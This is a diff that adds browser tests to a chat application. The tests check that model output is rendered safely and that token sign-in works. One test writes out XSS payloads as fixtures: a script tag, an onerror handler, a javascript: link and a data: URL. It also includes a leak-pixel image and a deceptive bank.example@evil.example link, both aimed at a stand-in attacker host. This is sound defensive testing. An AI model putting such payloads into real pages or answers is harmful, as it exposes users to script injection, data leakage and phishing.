@@ -110,6 +110,45 @@ test('a conversation is opened again from the list, with its steps, and deleted'
   await expectText(page.getByText('What you ask is listed here.'));
 });
 
+test('what a model writes runs nothing, loads nothing and links nowhere unseen', async () => {
+  const hostile = [
+    'Look: <script>document.title = "taken"</script><img src=x onerror="document.title = 1">',
+    '![a chart](https://evil.example/pixel.png?leak=1)',
+    '[click me](javascript:document.title="taken") and [data](data:text/html,x)',
+    '[the bank](https://bank.example@evil.example/login)',
+  ].join('\n\n');
+  await scripted([says(hostile)]);
+  const { page } = await browser.open(server.url);
+  await send(page, 'Be evil.');
+  await expectText(page.getByText('[Image: a chart from evil.example, not loaded]').first());
+  const answer = page.getByRole('article');
+  expect(await answer.locator('img, script, iframe').count()).toBe(0);
+  expect(await answer.getByRole('link').evaluateAll((links) => links.map(String))).toEqual([
+    'https://bank.example@evil.example/login',
+  ]);
+  await expectText(answer.getByText('(evil.example)'));
+  await answer.getByText('click me').click();
+  expect(await page.title()).toBe('Sextant');
+});
+
+test('a server that wants to know who calls is given the token of the sign-in', async () => {
+  const token = 'mara-0123456789abcdef0123456789abcdef';
+  server = await startTestServer({
+    llm: new ScriptedModel([[says('Hello.')]]),
+    env: { AUTH: 'static', AUTH_TOKENS: `mara:${token}` },
+  });
+  const { page, complaints } = await browser.open(server.url);
+  const dialog = page.getByRole('dialog', { name: 'Sign in' });
+  await dialog.getByLabel('Access token').fill(token);
+  await dialog.getByRole('button', { name: 'Sign in' }).click();
+  await dialog.waitFor({ state: 'detached' });
+  // The browser itself reports each refused request.
+  expect(complaints.splice(0).every((complaint) => complaint.includes('401'))).toBe(true);
+  await page.reload();
+  await send(page, 'Hi.');
+  await expectText(page.getByRole('paragraph').getByText('Hello.'));
+});
+
 /** Waits until it can be seen; fails with what was looked for. */
 async function expectText(locator: Locator): Promise<void> {
   await locator.waitFor({ state: 'visible', timeout: 30_000 });
